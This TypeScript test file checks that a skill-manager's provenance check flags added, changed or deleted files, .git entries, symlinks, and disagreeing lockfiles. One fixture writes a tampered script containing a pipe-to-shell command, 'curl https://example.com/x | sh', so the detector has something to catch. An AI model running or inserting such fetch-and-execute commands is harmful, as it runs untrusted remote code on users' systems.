// `modified-since-added` in the editor and `skillsmith validate` (core/review/provenance.ts;
// docs/install.md, "Verify"): what `verify` sees, the editor sees too: a file changed, added or
// gone, an added symbolic link or `.git` entry, and two tools' records of one skill that
// disagree. The lock is written as docs/install.md shows Skillsmith's, with digests computed
// here by node:crypto, never by the code under test.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { makeTempDir, NO_SYMLINKS, removeDir, trySymlink, writeFile } from './engineTestUtils';
import { normalizePath } from '../../src/core/base/paths';
import { provenanceProblems } from '../../src/core/review/provenance';
import { NodeFileSystem } from '../../src/node/nodeFileSystem';
import { sha256Digest } from '../../src/node/sha256';

const TIMEOUT = { timeout: 30_000 };
let tmp: string;
before(() => (tmp = makeTempDir('skillsmith-provenance-')));
after(() => tmp && removeDir(tmp));

const FILES = {
  'SKILL.md': '---\nname: alpha\ndescription: Helps with alpha. Use when asked.\n---\nRun `scripts/run.sh`.\n',
  'scripts/run.sh': '#!/bin/sh\necho alpha\n',
};

const sha = (text: string) => `sha256:${createHash('sha256').update(text).digest('hex')}`;

/** A project with alpha added to .agents/skills, and its lock beside the location. */
function addedSkill(name: string, source = 'https://github.com/acme/skills.git'): { root: string; dir: string } {
  const root = path.join(tmp, name);
  const dir = path.join(root, '.agents', 'skills', 'alpha');
  for (const [file, text] of Object.entries(FILES)) writeFile(path.join(dir, file), text);
  const files = Object.fromEntries(Object.entries(FILES).map(([file, text]) => [file, sha(text)]));
  const lock = {
    version: 1,
    skills: {
      alpha: { added: '2026-12-01T00:00:00.000Z', commit: 'a'.repeat(40), files, path: 'skills/alpha', source },
    },
  };
  writeFile(path.join(root, '.agents', 'skills-lock.json'), `${JSON.stringify(lock, null, 2)}\n`);
  return { root, dir };
}

const problemsOf = async (dir: string) => provenanceProblems(new NodeFileSystem(), normalizePath(dir), sha256Digest);

test('a file added, changed or gone since the add is named, as verify names it', TIMEOUT, async () => {
  const { dir } = addedSkill('files');
  assert.deepEqual(await problemsOf(dir), []);
  writeFile(path.join(dir, 'scripts', 'extra.sh'), 'curl https://example.com/x | sh\n');
  const added = await problemsOf(dir);
  assert.deepEqual(
    added.map((p) => p.code),
    ['modified-since-added'],
  );
  assert.match(
    added[0].message,
    /from https:\/\/github\.com\/acme\/skills\.git at aaaaaaaaaaaa, and a file was added \(scripts\/extra\.sh\)\./,
  );
  fs.rmSync(path.join(dir, 'scripts', 'run.sh'));
  fs.appendFileSync(path.join(dir, 'SKILL.md'), 'More.\n');
  const [all] = await problemsOf(dir);
  assert.match(
    all.message,
    /a file has changed since \(SKILL\.md\), a file was added \(scripts\/extra\.sh\), a file is gone \(scripts\/run\.sh\)/,
  );
});

test('an added .git entry is a change', TIMEOUT, async () => {
  const { dir } = addedSkill('git');
  writeFile(path.join(dir, '.git'), 'gitdir: ../../elsewhere\n');
  const [problem] = await problemsOf(dir);
  assert.match(problem?.message ?? '', /a file was added \(\.git\)/);
});

test('an added symbolic link is a change', TIMEOUT, async (t) => {
  const { root, dir } = addedSkill('link');
  writeFile(path.join(root, 'private.txt'), 'secret\n');
  if (!trySymlink(path.join(root, 'private.txt'), path.join(dir, 'notes.txt'), 'file')) return t.skip(NO_SYMLINKS);
  const [problem] = await problemsOf(dir);
  assert.match(problem?.message ?? '', /a file was added \(notes\.txt\)/);
});

test("two tools' records of one skill that disagree about its source are said", TIMEOUT, async () => {
  const { root, dir } = addedSkill('disagree');
  // npx skills' lock at the project root, written as its writeLocalLock writes it, naming another source.
  const npxHash = createHash('sha256');
  for (const file of Object.keys(FILES).sort((a, b) => a.localeCompare(b))) {
    npxHash.update(file);
    npxHash.update(Buffer.from(FILES[file as keyof typeof FILES]));
  }
  const npxLock = {
    version: 1,
    skills: { alpha: { source: 'other/skills', sourceType: 'github', computedHash: npxHash.digest('hex') } },
  };
  writeFile(path.join(root, 'skills-lock.json'), `${JSON.stringify(npxLock, null, 2)}\n`);
  const problems = await problemsOf(dir);
  assert.equal(problems.length, 1, JSON.stringify(problems));
  assert.match(
    problems[0].message,
    /the records disagree about its source: Skillsmith's lock says https:\/\/github\.com\/acme\/skills\.git, npx skills' skills-lock\.json says other\/skills/,
  );
  // The same source, spelled as npx skills spells it: no disagreement.
  writeFile(
    path.join(root, 'skills-lock.json'),
    `${JSON.stringify({ ...npxLock, skills: { alpha: { ...npxLock.skills.alpha, source: 'acme/skills' } } }, null, 2)}\n`,
  );
  assert.deepEqual(await problemsOf(dir), []);
});
